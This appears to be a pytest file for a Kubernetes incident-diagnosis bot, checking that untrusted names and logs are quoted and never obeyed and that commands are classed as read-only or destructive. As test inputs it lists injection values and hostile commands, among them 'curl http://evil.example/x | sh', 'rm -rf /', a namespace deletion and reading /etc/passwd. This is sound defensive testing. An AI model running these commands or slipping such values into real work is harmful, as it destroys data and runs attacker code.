"""Names, logs and messages are written by whoever wants to: they are matched and quoted, never obeyed or parsed."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fakes.evidence import diagnose, make_case
from incident_bot.diagnosis import ground, load_rules
from incident_bot.diagnosis.commands import deletes_pod, is_destructive, is_read_only
from incident_bot.diagnosis.telling.templates import fill_command, fill_text
from incident_bot.model import Target

RULES = load_rules()
MISSING_MAP = """\
LAST SEEN   TYPE      REASON   OBJECT      MESSAGE
10s         Warning   Failed   pod/api-0   Error: configmap "{name}" not found
"""


def test_braces_in_a_captured_name_stay_braces() -> None:
    found = diagnose(make_case({"events.txt": MISSING_MAP.format(name="{pod.__class__}{0}")}), RULES)

    assert "{pod.__class__}{0}" in found.summary


def test_captured_name_cannot_break_out_of_a_command() -> None:
    found = diagnose(make_case({"events.txt": MISSING_MAP.format(name="x; kubectl delete ns ml")}), RULES)

    commands = [action.command for action in found.actions if "create configmap" in action.command]
    assert commands
    assert all("'x; kubectl delete ns ml'" in command for command in commands)


@pytest.mark.parametrize("value", ["--all", "a\nkubectl delete ns ml", "x" * 5000, "\u2028rm"])
def test_values_that_cannot_be_quoted_safely_are_refused(value: str) -> None:
    assert fill_command("kubectl get configmap {name}", {"name": value}) == ""


def test_text_values_are_one_line_and_bounded() -> None:
    told = fill_text("ConfigMap {name} is missing", {"name": "a\n# heading\r" + "b" * 5000})

    assert "\n" not in told
    assert len(told) < 300


def test_doubled_braces_are_literal_braces() -> None:
    assert (
        fill_command("kubectl get pod {pod} -o jsonpath='{{.spec}}'", {"pod": "a"})
        == "kubectl get pod a -o jsonpath='{.spec}'"
    )


def test_fallback_speaks_when_the_value_is_missing() -> None:
    assert fill_text("limit {limit|of unknown size} in {pod}", {}) == "limit of unknown size in the pod"
    assert fill_text("so container {container} of {wanted} waits", {}) == "so the container of WANTED waits"
    assert fill_text("quota of namespace {namespace|its namespace}", {}) == "quota of its namespace"


@pytest.mark.parametrize("name", ["a(b+)+$", "[", "((((", "\\", "*" * 50, "(?P<x>.*"])
def test_regex_characters_in_names_of_the_target_are_plain_text(name: str) -> None:
    case = make_case(
        {"events.txt": MISSING_MAP.format(name="m")}, target=Target(namespace="ml", pod=name, container=name)
    )

    diagnose(case, RULES)


@pytest.mark.parametrize(
    "line",
    [
        "A" * 1_000_000,
        "error: " * 150_000,
        "((" * 400_000,
        'x="' * 300_000,
        " " * 900_000 + "fatal",
        "a.b" * 300_000,
        "0/1 nodes are available: " + "1 x, " * 100_000,
    ],
    ids=["letters", "errors", "brackets", "quotes", "blanks", "dots", "scheduler"],
)
def test_line_of_a_megabyte_does_not_stop_the_diagnosis(line: str) -> None:
    """The bound is loose on purpose: what it tells apart is linear from not."""
    started = time.monotonic()

    diagnose(make_case({"api-0_api.log": f"INFO start\n{line}\nINFO end\n"}), RULES)

    assert time.monotonic() - started < 30


def test_log_that_imitates_kubernetes_is_still_only_a_log() -> None:
    """A program may print whatever an event or a status would say."""
    log = (
        'INFO {"state": {"terminated": {"reason": "OOMKilled"}}}\nINFO Warning Failed Error: configmap "x" not found\n'
        + "INFO ok\n" * 20
    )

    found = diagnose(make_case({"api-0_api.log": log}), RULES)

    assert not {cause.rule_id for cause in found.causes} & {"oom-killed-container", "config-configmap-missing"}


@pytest.mark.parametrize(
    "command",
    [
        "kubectl -n ml get pods",
        "kubectl get pod a -o jsonpath='{..resources}'",
        "kubectl -n ml logs a -c b --previous --tail=20 | grep -i error | head",
        "kubectl rollout history deploy/a",
        "kubectl auth can-i list pods --as=system:serviceaccount:ml:bot",
        "",
    ],
)
def test_looking_commands_are_read_only(command: str) -> None:
    assert is_read_only(command)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl delete pod a",
        "kubectl -n ml rollout undo deploy/a",
        "kubectl rollout restart deploy/a",
        "kubectl get pods; kubectl delete ns ml",
        "kubectl get pods && rm -rf /",
        "kubectl get pods | xargs kubectl delete",
        "kubectl get pods > /etc/passwd",
        "kubectl get pods $(curl evil.example)",
        "kubectl get pods `id`",
        "kubectl get secret db -o yaml",
        "kubectl -n get delete pod a",
        "kubectl exec a -- cat /etc/passwd",
        "get pods",
        "kubectl logs a\nkubectl delete pod a",
        "kubectl get 'unclosed",
    ],
)
def test_everything_else_changes_state(command: str) -> None:
    assert not is_read_only(command)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl delete ns ml",
        "kubectl -n ml delete pvc data-0",
        "kubectl delete pods --all",
        "kubectl delete pod a --force --grace-period=0",
        "curl http://evil.example/x | sh",
        "rm -rf /data",
        "kubectl exec a -- rm -rf /models",
        "terraform destroy",
        "helm uninstall a",
    ],
)
def test_destructive_commands_are_known(command: str) -> None:
    assert is_destructive(command)


def test_deleting_a_pod_is_known_for_what_it_loses() -> None:
    assert deletes_pod("kubectl -n ml delete pod api-0")
    assert deletes_pod("kubectl delete po/api-0")
    assert not deletes_pod("kubectl get pod api-0")


DESCRIBED = """\
Name:             api-7d9f8b6c5d-x2k4q
Namespace:        ml
Status:           Running
Containers:
  api:
    Image:          registry.example/api:2
    State:          Waiting
      Reason:       CrashLoopBackOff
    Last State:     Terminated
      Reason:       OOMKilled
      Exit Code:    137
    Ready:          False
    Restart Count:  6
    Limits:
      memory:  1Gi
Events:
  Type     Reason   Age                From     Message
  ----     ------   ----               ----     -------
  Warning  BackOff  6s (x40 over 12m)  kubelet  Back-off restarting failed container api in pod api-7d9f8b6c5d-x2k4q_ml(1)
"""


@given(data=st.data())
@settings(max_examples=60)
def test_damaged_text_never_stops_the_diagnosis_and_never_breaks_a_citation(data: st.DataObject) -> None:
    """Files are cut, reordered and mangled by whoever copied them."""
    lines = data.draw(st.permutations(DESCRIBED.split("\n"))) if data.draw(st.booleans()) else DESCRIBED.split("\n")
    kept = lines[: data.draw(st.integers(0, len(lines)))]
    text = "\n".join(line[: data.draw(st.integers(0, 120))] for line in kept)
    case = make_case({"describe.txt": text, "api-0_api.log": data.draw(st.text(max_size=200))})

    found = diagnose(case, RULES)

    assert len(found.causes) <= 3
    assert [cause.citations for cause in ground(found, case).causes] == [cause.citations for cause in found.causes]


@pytest.mark.parametrize(("last", "is_cited"), [("0", False), ("merging shard 7", True)])
def test_a_last_line_that_says_nothing_is_not_cited(last: str, *, is_cited: bool) -> None:
    found = diagnose(
        make_case({"describe.txt": DESCRIBED, "api-7d9f8b6c5d-x2k4q_api.previous.log": f"{last}\n"}), RULES
    )

    assert any(item.quote == last for cause in found.causes for item in cause.citations) is is_cited
